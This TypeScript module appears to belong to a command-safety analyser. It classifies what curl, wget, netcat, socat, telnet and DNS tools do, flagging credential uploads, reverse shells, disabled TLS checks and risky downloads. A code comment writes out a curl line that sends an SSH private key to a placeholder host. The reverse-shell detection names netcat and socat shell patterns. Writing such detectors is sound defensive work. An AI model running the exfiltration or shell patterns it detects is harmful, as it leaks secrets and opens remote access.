import type { Call, ProgramReader } from '../call.ts';
import { has, readOptions, valuesOf } from '../options.ts';
import { DOWNLOADED, isKnown, join, literal, NOTHING, PLAIN_HTTP, SOCKET, UNKNOWN, UNVERIFIED, unknownFrom, type Value } from '../value.ts';
import { sendOut } from '../writes.ts';
import { noteHttpDeletion } from './http.ts';
import { readOne } from './streams.ts';

const LOCAL_HOST =
  /^(?:[a-z]+:\/\/)?(?:[^/@\s]*@)?(?:localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0|host\.docker\.internal)(?:[:/?#]|$)/i;

export function isLocalHost(url: string): boolean {
  return LOCAL_HOST.test(url);
}

function downloadTaint(urls: readonly Value[], unverified: boolean): number {
  let taint = unverified ? UNVERIFIED : 0;
  for (const { text } of urls) {
    if (isLocalHost(text) || text.startsWith('file:')) continue;
    taint |= DOWNLOADED;
    if (/^http:\/\//i.test(text)) taint |= PLAIN_HTTP;
  }
  return taint;
}

const CURL_VALUES =
  'A b c C d D e E F h H K m o P Q r t T u U w x X y Y z url data data-binary data-raw data-urlencode data-ascii json form form-string header output output-dir upload-file user user-agent request referer cookie cookie-jar proxy proxy-header proxy-user cacert cert key capath connect-timeout max-time retry retry-delay retry-max-time resolve limit-rate interface range write-out config dump-header max-redirs ciphers tls-max url-query connect-to dns-servers unix-socket netrc-file pinnedpubkey stderr trace trace-ascii proto noproxy socks5 socks5-hostname aws-sigv4 oauth2-bearer variable';

const curl: ProgramReader = (call) => {
  const options = readOptions(call.args, CURL_VALUES);
  const urls = [...options.operands, ...valuesOf(options, 'url')];
  const remote = urls.filter((url) => !isLocalHost(url.text));
  const insecure = has(options, 'k', 'insecure') && remote.length > 0;
  if (insecure) call.effect('disable-protection', { targetText: 'TLS verification', traits: ['unverified'] });
  for (const url of urls) if (/^file:\/\//i.test(url.text)) readOne(call, literal(url.text.slice(7)));
  const bodies = valuesOf(
    options,
    'd',
    'data',
    'data-binary',
    'data-urlencode',
    'data-ascii',
    'json',
    'data-raw',
    'url-query',
    'H',
    'header',
    'u',
    'user',
    'cookie',
    'b',
  );
  const forms = valuesOf(options, 'F', 'form');
  const uploads = valuesOf(options, 'T', 'upload-file');
  if (remote.length > 0)
    upload(
      call,
      [...bodies.map(bodyData), ...forms.map(formData), ...uploads.map((file) => ({ file: { ...file, text: file.text } }))],
      [...bodies, ...remote],
      remote,
    );
  const method = valuesOf(options, 'X', 'request').at(-1)?.text.toUpperCase();
  noteHttpDeletion(call, method ?? (bodies.length > 0 ? 'POST' : 'GET'), urls);
  if (has(options, 'I', 'head') || urls.length === 0) return UNKNOWN;
  return saved(
    call,
    [...valuesOf(options, 'o', 'output')],
    has(options, 'O', 'remote-name', 'J', 'remote-header-name', 'remote-name-all'),
    urls,
    downloadTaint(urls, insecure),
  );
};

/** `@file` in a body, `name=@file` or `name=<file` in a form. */
function bodyData(value: Value): { file?: Value; data?: Value } {
  const at = /^(?:[\w-]*)@(.+)$/.exec(value.text);
  return at === null ? { data: value } : { file: { ...value, text: at[1] ?? '' } };
}
function formData(value: Value): { file?: Value; data?: Value } {
  const at = /^[^=]*=[@<]([^;]+)/.exec(value.text);
  return at === null ? { data: value } : { file: { ...value, text: at[1] ?? '' } };
}

/** Local files and data that go to a host. */
export function upload(
  call: Call,
  parts: readonly { file?: Value; data?: Value }[],
  data: readonly Value[],
  destinations: readonly Value[],
): void {
  const where = destinations[0]?.text ?? '';
  for (const { file } of parts) {
    if (file === undefined) continue;
    if (file.text === '-' || file.text === '.' || file.text === '/dev/stdin') {
      if (call.input !== undefined) sendOut(call, call.input, where);
      continue;
    }
    const path = call.path(file);
    const content = call.session.scope.read(file.text);
    if (path.target === 'credential') call.effect('send-out', { target: 'credential', targetText: path.text, traits: ['remote'] });
    else if (path.unresolved)
      call.effect('send-out', { target: 'unknown', targetText: path.text, traits: ['remote', 'unresolved-target'] });
    else if (['system', 'home', 'repository', 'guard', 'outside'].includes(path.target))
      call.effect('send-out', { target: path.target, targetText: path.text, traits: ['remote'] });
    else sendOut(call, content, where);
  }
  // Substitutions: `curl "https://x/?k=$(cat ~/.ssh/id_rsa)"`.
  const inline = join(data);
  if (inline.taint !== 0) sendOut(call, inline, where);
}

/** Where the download goes: a file that later commands may run, or the output. */
function saved(call: Call, outputs: readonly Value[], remoteName: boolean, urls: readonly Value[], taint: number): Value {
  const { scope } = call.session;
  const files = outputs.filter((file) => file.text !== '-');
  if (remoteName) {
    for (const url of urls) {
      const name = /([^/?#]+)(?:[?#].*)?$/.exec(url.text)?.[1];
      if (name !== undefined && isKnown(url)) files.push(literal(name));
    }
  }
  for (const file of files) {
    if (file.text.startsWith('/dev/') === false) scope.write(file.text, unknownFrom(taint));
    const path = call.path(file);
    if (path.target === 'system' || path.target === 'credential')
      call.effect('overwrite', { target: path.target, targetText: path.text, traits: ['downloaded'] });
  }
  return files.length > 0 && !outputs.some((file) => file.text === '-') ? NOTHING : unknownFrom(taint);
}

const wget: ProgramReader = (call) => {
  const options = readOptions(
    call.args,
    'o a e i B t O T w Q P U l A R D I X output-document output-file post-file post-data body-file body-data method header user password directory-prefix user-agent tries timeout wait input-file referer execute level accept reject domains base load-cookies save-cookies limit-rate cut-dirs ca-certificate',
  );
  const urls = options.operands;
  const remote = urls.filter((url) => !isLocalHost(url.text));
  const insecure = has(options, 'no-check-certificate') && remote.length > 0;
  if (insecure) call.effect('disable-protection', { targetText: 'TLS verification', traits: ['unverified'] });
  const files = valuesOf(options, 'post-file', 'body-file').map((file) => ({ file }));
  if (remote.length > 0) upload(call, files, [...valuesOf(options, 'post-data', 'body-data', 'header'), ...remote], remote);
  noteHttpDeletion(call, valuesOf(options, 'method')[0]?.text.toUpperCase() ?? 'GET', urls);
  if (has(options, 'spider') || urls.length === 0) return UNKNOWN;
  const outputs = valuesOf(options, 'O', 'output-document');
  return saved(call, outputs, outputs.length === 0, urls, downloadTaint(urls, insecure));
};

/** HTTPie, aria2c, lynx, fetch: downloads without further detail. */
const download: ProgramReader = (call) => {
  const options = readOptions(call.args, 'o d O output dir out');
  const urls = options.operands.filter((operand) => /[./]/.test(operand.text));
  return saved(call, valuesOf(options, 'o', 'output', 'out'), false, urls, downloadTaint(urls, false) | DOWNLOADED);
};

/** netcat: with -e or -c a shell for the peer; else a pipe to or from it. */
const netcat: ProgramReader = (call) => {
  const options = readOptions(call.args, 'e c p w s i q x X T exec sh-exec lua-exec source-port');
  const executes = valuesOf(options, 'e', 'exec', 'c', 'sh-exec', 'lua-exec')[0];
  const host = options.operands[0]?.text ?? '';
  if (executes !== undefined) call.effect('reverse-shell', { targetText: host, traits: ['remote'] });
  if (has(options, 'z')) return NOTHING;
  if (call.input !== undefined && !isLocalHost(host)) sendOut(call, call.input, host);
  return unknownFrom(isLocalHost(host) && !has(options, 'l', 'listen') ? 0 : SOCKET | DOWNLOADED);
};

const NETWORK_ADDRESS = /^(?:TCP|UDP|SSL|OPENSSL|SCTP|PROXY|SOCKS)\w*(?:-\w+)*:/i;

/** socat ADDRESS ADDRESS: a network side with an EXEC side is a shell for the peer; with a file side it sends the file. */
const socat: ProgramReader = (call) => {
  const { operands } = readOptions(call.args, 'L W t T b');
  const sides = operands.flatMap((operand) => operand.text.split('!!').map((text) => ({ ...operand, text })));
  const network = sides.find((side) => NETWORK_ADDRESS.test(side.text) && !isLocalHost(side.text.slice(side.text.indexOf(':') + 1)));
  for (const side of sides) {
    const [, kind = '', rest = ''] = /^([A-Za-z]+):([\s\S]*)$/.exec(side.text) ?? [];
    if (/^(?:EXEC|SYSTEM|SHELL)$/i.test(kind)) {
      const code = literal(rest.split(',')[0] ?? '');
      if (network !== undefined && /(?:^|\/)(?:ba|z|da|k|a)?sh\b|cmd\.exe|powershell/.test(rest))
        call.effect('reverse-shell', { targetText: network.text, traits: ['remote'] });
      else {
        const output = call.session.runText(code, { ...call.how, depth: call.how.depth + 1 });
        if (network !== undefined) sendOut(call, output, network.text);
      }
    } else if (network !== undefined && (/^(?:OPEN|FILE|GOPEN)$/i.test(kind) || /^\.?\.?\//.test(side.text)))
      upload(call, [{ file: literal((rest || side.text).split(',')[0] ?? '') }], [], [network]);
  }
  if (network !== undefined && call.input !== undefined) sendOut(call, call.input, network.text);
  return unknownFrom(network === undefined ? 0 : SOCKET | DOWNLOADED);
};

const telnet: ProgramReader = (call) => {
  const host = call.options.operands[0]?.text ?? '';
  if (call.input !== undefined && !isLocalHost(host)) sendOut(call, call.input, host);
  return unknownFrom(SOCKET | DOWNLOADED);
};

/** Names looked up with local data in them leave by DNS. */
const lookup: ProgramReader = (call) => {
  const names = join(call.args);
  if (names.taint !== 0) sendOut(call, names, 'DNS');
  return unknownFrom(DOWNLOADED);
};

export const NETWORK_PROGRAMS = {
  curl,
  curlie: curl,
  wget,
  wget2: wget,
  aria2c: download,
  axel: download,
  http: download,
  https: download,
  xh: download,
  lynx: download,
  fetch: download,
  nc: netcat,
  ncat: netcat,
  netcat,
  socat,
  telnet,
  dig: lookup,
  nslookup: lookup,
  host: lookup,
  ping: lookup,
} satisfies Record<string, ProgramReader>;
